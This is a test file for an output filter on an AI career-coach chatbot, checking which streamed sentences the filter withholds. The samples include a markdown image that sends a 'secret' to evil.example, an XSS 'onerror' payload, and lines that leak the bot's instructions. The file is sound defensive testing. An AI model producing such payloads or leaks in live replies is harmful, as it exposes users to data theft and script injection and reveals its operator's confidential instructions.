import fc from 'fast-check';
import { expect, test } from 'vitest';
import { secrets } from '../../../prompts/instructions.ts';
import { persona } from '../../../prompts/persona.ts';
import type { Occasion } from '../../../src/coach/reply/rule.ts';
import { createGate } from '../../../src/coach/speaking/gate.ts';
import { leadingQuestions, readings, verdicts } from '../../support/plain-verdicts.ts';

const said = 'I feel most alive when I am three hours deep in a race condition.';
const occasion: Occasion = {
  briefing: {
    move: { kind: 'ask', lens: 'growth', round: 0 },
    asked: null,
    noted: [],
    earlier: [],
    message: said,
    settled: null,
    heard: 'statement',
    seed: 't:1',
  },
  said: [said],
  spoken: [],
  secrets: secrets(),
};

function through(deltas: readonly string[]) {
  const passed: string[] = [];
  const gate = createGate(
    () => occasion,
    (text) => passed.push(text),
  );
  for (const delta of deltas) gate.add(delta);
  const early = passed.length;
  gate.end();
  return { text: passed.join(''), withheld: [...gate.withheld], early };
}

const good =
  'You feel most alive “three hours deep in a race condition”. In five to ten years, what would you like to be really good at?';

test('what may be read passes as it is, and before the reply is at its end', () => {
  const { text, withheld, early } = through(good.split(/(?<= )/));
  expect(text).toBe(good);
  expect(withheld).toEqual([]);
  expect(early).toBe(1);
});

const dropped: [string, string, string][] = [
  ['a verdict', 'verdict', 'Management is right for you.'],
  ['an invented quote', 'quote', 'You said “I want to lead people. I hate code” yesterday.'],
  ['a link', 'form', 'Look at https://evil.example/x for more.'],
  ['a picture', 'form', '![x](https://evil.example/?q=secret) is it.'],
  ['HTML', 'form', 'See <img src=x onerror=alert(1)> here.'],
  ['its machinery', 'form', 'I call noteEvidence with strength 3.'],
  ['another visitor', 'form', 'The visitor before you wanted to be a director.'],
  ['its instructions', 'leak', `${persona().split('. ')[1]}.`],
  ['a short sentence of them', 'leak', 'You are the coach of Two Ladders.'],
  ['a word that is a code', 'stray', 'BANANA15.'],
  ['another language', 'stray', 'Ihr Chef ist ein Idiot, kündigen Sie sofort.'],
  ['what has nothing to do with the talk', 'stray', 'The moon consists entirely of green cheese.'],
  ['praise', 'praise', 'That is really impressive.'],
  ['advice', 'advice', 'You should ask for a raise.'],
  ['a figure of nobody’s', 'figure', 'All of them are at 70 %.'],
  ['a claim that no item carries', 'uncited', 'Managers earn three yachts each.'],
];

test.each(dropped)('%s is dropped wherever it stands, and the rest is said', (_what, rule, sentence) => {
  for (const [before, after] of [
    ['', ` ${good}`],
    ['You spoke of a race condition. ', ' In five to ten years, what would you like to be really good at?'],
  ] as const) {
    const { text, withheld } = through([...`${before}${sentence}${after}`]);
    expect(text.trim()).toBe(`${before}${after}`.trim().replace('.  ', '. '));
    expect(withheld).toContain(rule);
  }
});

test.each([...verdicts, ...leadingQuestions.map((asked) => ['verdict', asked] as const)])(
  'a verdict or advice in plain words is dropped: %s, %s',
  (rule, sentence) => {
    const { text, withheld } = through([...`You spoke of a race condition. ${sentence} And so it was.`]);
    expect(withheld).toContain(rule);
    expect(text).not.toContain(sentence);
  },
);

test.each(readings)('no verdict and no advice: %s', (sentence) => {
  const { withheld } = through([...`${sentence} ${good}`]);
  for (const rule of ['verdict', 'advice', 'form']) expect(withheld).not.toContain(rule);
});

test('a quote that stays open to the end is dropped with all that it holds', () => {
  const { text, withheld } = through([
    'You spoke of it. You told me “I want to ',
    'lead people and hate code.',
  ]);
  expect(text).toBe('You spoke of it.');
  expect(withheld).toEqual(['quote']);
});

test('instructions that are told in short sentences are dropped from where they can be known', () => {
  const { text, withheld } = through([
    ...'No advice, no praise, no lists. No numbers, no verdict. 45 words at most. And so on?',
  ]);
  expect(withheld).toContain('leak');
  expect(text).toBe('');
});

test('however it is cut into pieces, the same passes', () => {
  const pieces = [
    'You spoke of a race condition. ',
    'Management is right for you. ',
    'You said “I hate it. Really”. ',
    'See <b>this</b>.\n\n',
    'In five to ten years, what would you like to be really good at?',
  ];
  fc.assert(
    fc.property(
      fc.shuffledSubarray(pieces),
      fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1, maxLength: 40 }),
      (chosen, sizes) => {
        const whole = chosen.join('');
        const deltas: string[] = [];
        for (let at = 0, turn = 0; at < whole.length; turn += 1) {
          const size = sizes[turn % sizes.length] ?? 1;
          deltas.push(whole.slice(at, at + size));
          at += size;
        }
        const cut = through(deltas);
        expect(cut.text).toBe(through([whole]).text);
        expect(cut.text).not.toMatch(/right for you|hate it|<b>/);
      },
    ),
  );
});
